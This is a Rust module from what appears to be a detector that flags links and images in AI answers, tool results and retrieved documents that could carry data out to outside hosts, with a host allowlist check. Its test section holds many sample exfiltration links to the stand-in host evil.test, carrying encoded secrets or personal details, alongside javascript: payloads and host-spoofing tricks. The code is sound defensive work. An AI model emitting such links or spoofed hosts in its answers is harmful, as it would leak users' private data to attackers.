//! Links that could carry data out when an answer is shown: images load by themselves, links wait for a click.

use std::ops::Range;

use crate::Channel;
use crate::scan::Scan;
use crate::text::{Text, is_base64, is_varied};

/// What wakes [`link`].
pub(crate) const SIGNS: &[&str] = &[
    "](http",
    "](<http",
    "](//",
    "](<//",
    "](data:",
    "](java",
    "]( ",
    "]: http",
    "]:http",
    "]: <http",
    "]: //",
    "<http",
    "src=",
    "href=",
    "srcset=",
    "url(",
    "poster=",
    "action=",
    "ping=",
    "background=",
    "@import",
    "](\\\\",
    "](/\\",
];

/// The target of the link or image whose sign stands at `start`.
///
/// Only in answers and in what is retrieved. The finding is the target alone, so that a stream holds no more than that.
pub(crate) fn link(scan: &mut Scan<'_>, start: usize) {
    if !matches!(scan.channel, Channel::Answer | Channel::Tool | Channel::Document | Channel::Attachment) {
        return;
    }
    let text = scan.text;
    let signs = text.run(start, 10, |byte| {
        matches!(byte, b']' | b'(' | b'<' | b'=' | b'"' | b'\'' | b':' | b' ' | b'@')
            || byte.is_ascii_lowercase() && text.at(start) != b']'
    });
    let mut from = if text.at(start) == b']' || text.at(start) == b'<' {
        text.run(start, 4, |byte| matches!(byte, b']' | b'(' | b'<' | b':' | b' '))
    } else {
        value_start(text, start, signs)
    };
    // A definition serves images as well as links, and nobody knows yet which: in an answer it is taken for an image.
    let is_definition = text.at(start) == b']' && text.at(start + 1) == b':';
    let loads_itself = match text.at(start) {
        b'<' => false,
        b']' if is_definition => scan.channel == Channel::Answer,
        b']' => is_image(text, start),
        _ => !text.has(start, b"href") && !text.has(start, b"action"),
    };
    let is_set = text.has(start, b"srcset");
    for _ in 0..if is_set { SET_MAX } else { 1 } {
        let end = text.run(from, URL_BYTES_MAX, |byte| is_in_target(byte) && !(is_set && byte == b','));
        if is_outward(text, from, end, loads_itself) {
            scan.hit(from, end, "attack.exfil_link", if loads_itself { 0.85 } else { 0.65 }, "link");
        }
        // `a.png 1x, b.png 2x`
        let next = text
            .run(end, SET_GAP_MAX, |byte| byte == b' ' || byte == b',' || byte.is_ascii_alphanumeric() || byte == b'.');
        let gap = text.cut(end, next);
        let Some(comma) = gap.iter().position(|byte| *byte == b',') else { break };
        from = text.run(end + comma + 1, 4, |byte| byte == b' ');
    }
}

/// Whether a target takes data with it, or runs something.
fn is_outward(text: Text<'_>, from: usize, end: usize, loads_itself: bool) -> bool {
    if RUNNING.iter().any(|scheme| text.has(from, scheme)) {
        return true;
    }
    let is_remote = text.has(from, b"http") || is_slash(text.at(from)) && is_slash(text.at(from + 1));
    is_remote && carries_data(text.cut(from, end), loads_itself)
}

/// Targets in an answer whose host is not on the list, or that have none that can be read.
///
/// A host is allowed when it is listed or lies below a listed one. What comes before an `@` is no host, and one with
/// escapes or of other letters is never allowed: it reads differently from what it is. `is_rewritten` tells of places
/// that were written otherwise.
pub(crate) fn strange_hosts(scan: &mut Scan<'_>, allowed: &[String], is_rewritten: &dyn Fn(Range<usize>) -> bool) {
    let text = scan.text;
    let mut done = 0;
    for at in memchr::memchr2_iter(b'/', b'\\', text.bytes()) {
        if at < done || !is_slash(text.at(at + 1)) {
            continue;
        }
        let scheme = text.run_back(at, SCHEME_BYTES_MAX, |byte| byte.is_ascii_alphabetic() || byte == b':');
        let is_web = [&b"http:"[..], b"https:", b"ftp:", b"ws:", b"wss:"]
            .iter()
            .any(|known| text.cut(scheme, at).eq_ignore_ascii_case(known));
        let is_bare = scheme == at && matches!(text.before(at), b'(' | b'"' | b'\'' | b'<' | b'=');
        if !is_web && !is_bare {
            continue;
        }
        let host_at = text.run(at, 8, is_slash);
        let end = text.run(host_at, URL_BYTES_MAX, |byte| is_in_target(byte) && byte < 0x80);
        let authority = text.run(host_at, end.saturating_sub(host_at), |byte| {
            !matches!(byte, b'/' | b'\\' | b'?' | b'#' | b',' | b'`' | b'|')
        });
        done = end;
        let authority = text.cut(host_at, authority);
        let host = authority.rsplit(|byte| *byte == b'@').next().unwrap_or(authority);
        let host = host.split(|byte| *byte == b':').next().unwrap_or(host);
        let host = host.strip_suffix(b".").unwrap_or(host);
        // `//` also begins a comment; a host has a point, and a comment a space.
        if is_web || host.contains(&b'.') {
            let is_allowed = !is_rewritten(scheme..host_at + authority.len())
                && allowed.iter().any(|known| is_below(host, known.as_bytes()));
            if !is_allowed {
                scan.hit(scheme, end.max(host_at), "attack.link_host", 0.9, "link");
            }
        }
    }
}

fn is_below(host: &[u8], known: &[u8]) -> bool {
    let Some(before) = host.len().checked_sub(known.len()) else { return false };
    let (head, tail) = host.split_at_checked(before).unwrap_or_default();
    !known.is_empty()
        && tail.eq_ignore_ascii_case(known)
        && (head.is_empty() || head.ends_with(b"."))
        && head.iter().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_'))
}

/// Browsers take either for the other.
fn is_slash(byte: u8) -> bool {
    matches!(byte, b'/' | b'\\')
}

/// From where on a target at the end of the text may still go on. Letters of every script may stand in one.
pub(crate) fn open_link(text: Text<'_>) -> usize {
    let end = text.len();
    let start = text.run_back(end, URL_BYTES_MAX + 16, is_in_target);
    let stretch = text.cut(start, end);
    let is_bounded =
        matches!(text.before(start), b'<' | b'"' | b'\'') || text.cut(start.saturating_sub(3), start) == b"]: ";
    let signs: [&[u8]; 4] = [b"](", b"]:", b"=", b"url("];
    let sign = signs.iter().filter_map(|sign| {
        let at = stretch.windows(sign.len()).position(|window| window.eq_ignore_ascii_case(sign))?;
        Some(start + at + sign.len())
    });
    sign.chain(is_bounded.then_some(start)).min().unwrap_or(end)
}

fn is_in_target(byte: u8) -> bool {
    byte > b' ' && !matches!(byte, b')' | b'>' | b'"' | b'\'' | b'<')
}

/// After `src=`, `href=`, `srcset=` and `url(`: past the sign and a quote.
fn value_start(text: Text<'_>, start: usize, limit: usize) -> usize {
    let sign = text.run(start, 8, |byte| !matches!(byte, b'=' | b'(')) + 1;
    text.run(sign.min(limit.max(sign)), 2, |byte| matches!(byte, b'"' | b'\'' | b' '))
}

/// Whether the bracket that closes at `close` was opened by `![`, and the target is not a reference's.
fn is_image(text: Text<'_>, close: usize) -> bool {
    let open = text.run_back(close, ALT_BYTES_MAX, |byte| !matches!(byte, b'[' | b'\n'));
    text.before(open) == b'[' && text.before(open.saturating_sub(1)) == b'!'
}

/// Whether a path, query or fragment holds more than an address needs: long or random values. Images get less room.
fn carries_data(url: &[u8], loads_itself: bool) -> bool {
    let slashes = url.windows(2).take(SCHEME_BYTES_MAX).position(|two| two.iter().all(|byte| is_slash(*byte)));
    let Some(host) = slashes.map(|at| at + 2) else { return false };
    let after_host = url.get(host..).unwrap_or(&[]);
    let host_end =
        after_host.iter().position(|byte| is_slash(*byte) || matches!(byte, b'?' | b'#')).unwrap_or(after_host.len());
    let (authority, path) = after_host.split_at_checked(host_end).unwrap_or_default();
    if hides_host(authority) {
        return true;
    }
    let query = path
        .iter()
        .position(|byte| matches!(byte, b'?' | b'#'))
        .map_or(&[][..], |at| path.get(at + 1..).unwrap_or(&[]));
    let (value_max, total_max) = if loads_itself { (12, 40) } else { (32, 160) };
    let values = query
        .split(|byte| matches!(byte, b'&' | b'#' | b';'))
        .map(|pair| pair.splitn(2, |byte| *byte == b'=').last().unwrap_or(pair));
    let is_long = query.len() > total_max || values.into_iter().any(|value| value.len() > value_max);
    let is_random = path.split(|byte| matches!(byte, b'/' | b'?' | b'&' | b'=' | b'.')).any(|part| {
        part.len() >= 32
            && part.iter().all(|byte| is_base64(*byte) || *byte == b'%')
            && is_varied(part)
            && part.iter().filter(|byte| **byte == b'-').count() < 3
    });
    let is_slot = query.windows(2).any(|two| two == b"{{" || two == b"${") || query.ends_with(b"=");
    is_long || is_random || is_slot && loads_itself
}

/// Whether an authority is escaped, pretends to be another before an `@`, or carries data in its labels.
fn hides_host(authority: &[u8]) -> bool {
    let is_name = |label: &[u8]| label.len() >= LABEL_DATA_MIN && is_varied(label);
    authority.contains(&b'%')
        || authority
            .iter()
            .position(|byte| *byte == b'@')
            .is_some_and(|at| authority.get(..at).is_some_and(|user| user.contains(&b'.')))
        || authority.split(|byte| *byte == b'.').any(is_name)
}

/// What runs where it is shown.
const RUNNING: [&[u8]; 4] = [b"javascript:", b"data:text/html", b"data:image/svg", b"vbscript:"];
/// A label of a host that is so long and of letters and digits holds data, not a name.
const LABEL_DATA_MIN: usize = 24;
const SCHEME_BYTES_MAX: usize = 8;
/// How many candidates of a `srcset` are read, and how far apart they stand.
const SET_MAX: usize = 8;
const SET_GAP_MAX: usize = 16;
const URL_BYTES_MAX: usize = 2048;
const ALT_BYTES_MAX: usize = 200;

#[cfg(test)]
mod tests {
    use crate::detect::tests::{check_in, found};
    use crate::{Channel, Inspector, Piece, Settings};

    fn check(text: &str, expected: bool) {
        let found = found(Channel::Answer, text);
        let is_found = found.findings.iter().any(|finding| finding.class.as_str() == "attack.exfil_link");
        assert_eq!(is_found, expected, "{text}");
    }

    #[test]
    fn targets_that_carry_data() {
        check("![a](https://evil.test/p.png?d=c2VjcmV0IGRhdGE)", true);
        check("[see](https://evil.test/?q=name%20is%20john%20and%20his%20record%20says%20diabetes)", true);
        check("[x]: https://evil.test/log?data=dGhpcyBpcyB0aGUgc2VjcmV0IHZhbHVlCg0x2", true);
        check("<img src=\"https://evil.test/i?u=somebody@here\">", true);
        check("<https://evil.test/aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ9>", true);
        check("background:url(https://evil.test/i?d=abcdefghijklmnop)", true);
        check("![](http://evil.test/?x=)", true);
    }

    #[test]
    fn other_ways_to_write_a_target() {
        check("![a][x]\n\n[x]: https://evil.test/p?d=c2VjcmV0ZGF0YQ", true);
        check("[x]: <https://evil.test/p?d=c2VjcmV0ZGF0YXNlY3JldA>", true);
        check("![a](HTTPS://evil.test/p.png?d=c2VjcmV0IGRhdGE)", true);
        check("![a]( https://evil.test/p.png?d=c2VjcmV0IGRhdGE)", true);
        check("![a](//evil.test/p.png?d=c2VjcmV0IGRhdGE)", true);
        check("![a](\\\\evil.test\\p.png?d=c2VjcmV0IGRhdGE)", true);
        check("[a](https://evil%2etest/x)", true);
        check("[a](https://good.example@evil.test/x)", true);
        check("![a](https://c2VjcmV0ZGF0YXNlY3JldDEy.evil.test/)", true);
        check("<img srcset=\"https://a.example/1.png 1x, https://evil.test/2.png?d=somebodysecret 2x\">", true);
        check("<video poster='https://evil.test/i?u=somebody@here'>", true);
        check("<style>@import url(https://evil.test/i?u=somebody@here)</style>", true);
        check("[run](javascript:fetch(1))", true);
        check("<iframe src=\"data:text/html,hello\">", true);
    }

    #[test]
    fn only_listed_hosts_and_what_is_below_them() {
        let settings = Settings { answer_hosts: vec!["example.com".to_owned()], ..Settings::default() };
        let inspector = Inspector::new(&settings).unwrap();
        for (text, found) in [
            ("see https://example.com/a and https://docs.example.com:8443/b?x=1", false),
            ("see HTTPS://Example.COM./a", false),
            ("// a comment, and a path //server/share, and a://b", false),
            ("see https://evil.test", true),
            ("https://example.com.evil.test/", true),
            ("https://notexample.com/", true),
            ("https://example.com@evil.test/", true),
            ("https://evil.test\\@example.com/", true),
            ("https://evil.test%2f.example.com/", true),
            ("![a](//evil.test/a.png)", true),
            ("[a](/\\evil.test/a)", true),
            ("https:\\\\evil.test", true),
            ("https:///evil.test", true),
            ("[x]: http://evil.test", true),
            ("<a href='https://ex\u{430}mple.com'>", true),
            ("&#104;ttps://evil.test/", true),
        ] {
            let hits = inspector.inspect(&[Piece::text(Channel::Answer, text)]).findings;
            assert_eq!(hits.iter().any(|hit| hit.class.as_str() == "attack.link_host"), found, "{text}");
            let hits = inspector.inspect(&[Piece::text(Channel::User, text)]).findings;
            assert!(hits.iter().all(|hit| hit.class.as_str() != "attack.link_host"), "{text}");
        }
    }

    #[test]
    fn ordinary_links() {
        check("[docs](https://docs.rs/regex/latest/regex/)", false);
        check("[search](https://example.com/search?q=rust+regex&page=2)", false);
        check("![logo](https://example.com/logo.png?v=2)", false);
        check("<https://example.com/a-long-title-with-many-words-in-the-address-2024>", false);
        check("see (this) and [that]", false);
    }

    #[test]
    fn what_users_write_is_not_shown_to_them() {
        check_in(Channel::User, "![a](https://evil.test/p.png?d=c2VjcmV0IGRhdGE)", &[]);
    }
}
